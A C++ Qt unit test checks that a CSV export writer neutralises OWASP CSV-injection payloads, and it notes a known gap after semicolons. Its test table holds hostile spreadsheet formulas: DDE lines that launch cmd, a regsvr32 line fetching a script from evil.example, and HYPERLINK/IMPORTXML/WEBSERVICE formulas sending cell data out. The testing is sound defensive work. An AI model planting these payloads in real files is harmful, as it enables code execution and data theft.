// The OWASP CSV-injection payloads through the whole writer: every cell reads back
// as text in a spreadsheet that splits at ',' (and, where no ';' is in a cell, at ';'
// as many locales do), and the analyst's text survives exactly once the ' is dropped.
#include "export/csvwriter.h"
#include "fuzztargets.h"

#include <QtCore/QBuffer>
#include <QtTest/QtTest>

using namespace Qt::StringLiterals;

namespace {

bool startsLikeAFormula(QStringView cell)
{
    static const QString triggers = u"=+-@\t\r\uff1d\uff0b\uff0d\uff20"_s;
    return !cell.isEmpty() && triggers.contains(cell.front()) && !CsvWriter::isPlainNumber(cell);
}

// The fields a spreadsheet sees when it splits a record at `separator`, honouring quotes.
QStringList splitRecord(const QString &record, QChar separator)
{
    QStringList fields;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < record.size(); ++i) {
        const QChar c = record.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < record.size() && record.at(i + 1) == u'"') {
                field += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"' && field.isEmpty()) {
            quoted = true;
        } else if (c == separator) {
            fields.append(field);
            field.clear();
        } else {
            field += c;
        }
    }
    fields.append(field);
    return fields;
}

} // namespace

class TestCsvInjection final : public QObject
{
    Q_OBJECT

private slots:
    void payload_data();
    void payload();
};

void TestCsvInjection::payload_data()
{
    QTest::addColumn<QString>("payload");
    // OWASP "CSV Injection" examples and their usual variants.
    QTest::newRow("dde calc") << u"=cmd|' /C calc'!A0"_s;
    QTest::newRow("at sum dde") << u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
    QTest::newRow("plus plus") << u"+1+1"_s;
    QTest::newRow("minus plus") << u"-2+3"_s;
    QTest::newRow("minus dde") << u"-2+3+cmd|' /C calc'!A0"_s;
    QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2,\"Error: please click\")"_s;
    QTest::newRow("importxml") << u"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")"_s;
    QTest::newRow("webservice") << u"=WEBSERVICE(\"http://evil.example/\"&A1)"_s;
    QTest::newRow("tab then formula") << u"\t=1+1"_s;
    QTest::newRow("CR then formula") << u"\r=1+1"_s;
    QTest::newRow("LF then formula") << u"\n=1+1"_s;
    QTest::newRow("semicolon then formula") << u";=1+1"_s;
    QTest::newRow("text, semicolon, formula") << u"Item 8.01;=cmd|' /C calc'!A0"_s;
    QTest::newRow("text, semicolon, at") << u"a;@SUM(1+1)"_s;
    QTest::newRow("comma then formula") << u"a,=1+1"_s;
    QTest::newRow("quote then formula") << u"\"=1+1"_s;
    QTest::newRow("apostrophe then formula") << u"'=1+1"_s;
    QTest::newRow("space then formula") << u" =1+1"_s;
    QTest::newRow("full-width equals") << u"\uff1dcmd|' /C calc'!A0"_s;
    QTest::newRow("full-width at") << u"\uff20SUM(1+1)"_s;
    QTest::newRow("DDE msexcel") << u"=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/SCT.sct scrobj.dll'!''"_s;
    QTest::newRow("plain negative number stays a number") << u"-12.5"_s;
}

void TestCsvInjection::payload()
{
    QFETCH(QString, payload);
    DocumentContent c;
    c.fileName = u"injection.txt"_s;
    c.text.pages = {payload};
    Entity e;
    e.type = u"organization"_s;
    e.span = {0, 0, int(payload.size())};
    e.text = payload;
    e.id = Entity::makeId(e.type, e.span, e.text);
    e.value = payload;
    e.note = payload;
    e.origin = u"manual"_s;
    e.status = EntityStatus::Added;
    e.attributes.insert(u"title"_s, payload);

    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(&buffer);
    QVERIFY(writer.addFile(c, {e}));
    QVERIFY(writer.finish());

    QList<QStringList> rows;
    QString error;
    QVERIFY2(FuzzTargets::readCsv(buffer.data(), &rows, &error), qPrintable(error));
    QCOMPARE(rows.size(), 2);
    const QStringList &row = rows.at(1);
    const int value = int(CsvWriter::columns().indexOf(u"value"_s));
    const int text = int(CsvWriter::columns().indexOf(u"text"_s));
    const int note = int(CsvWriter::columns().indexOf(u"note"_s));
    for (const QString &cell : row)
        QVERIFY2(!startsLikeAFormula(cell), qPrintable(u"a comma-separated reader sees a formula: "_s + cell));
    for (int col : {value, text, note})
        QCOMPARE(CsvWriter::restored(row.at(col)), payload);

    // A spreadsheet that splits records at ';' (the list separator of many locales)
    // reads a comma-separated file as one column cut at each ';': a quote in the
    // middle of such a piece is literal, so quoting cannot protect what follows a ';'.
    // Known limitation; the fix would be to neutralise after ';' as well.
    const QString record = QString::fromUtf8(buffer.data()).section(u"\r\n"_s, 1, -1);
    QString formula;
    for (const QString &field : splitRecord(record.left(record.size() - 2), u';')) {
        if (startsLikeAFormula(field) && formula.isEmpty())
            formula = field;
    }
    if (payload.contains(u';'))
        QEXPECT_FAIL("", "text after a ';' inside a cell is not neutralised", Abort);
    QVERIFY2(formula.isEmpty(), qPrintable(u"a semicolon-separated reader sees a formula: "_s + formula));
}

QTEST_GUILESS_MAIN(TestCsvInjection)
#include "tst_csvinjection.moc"
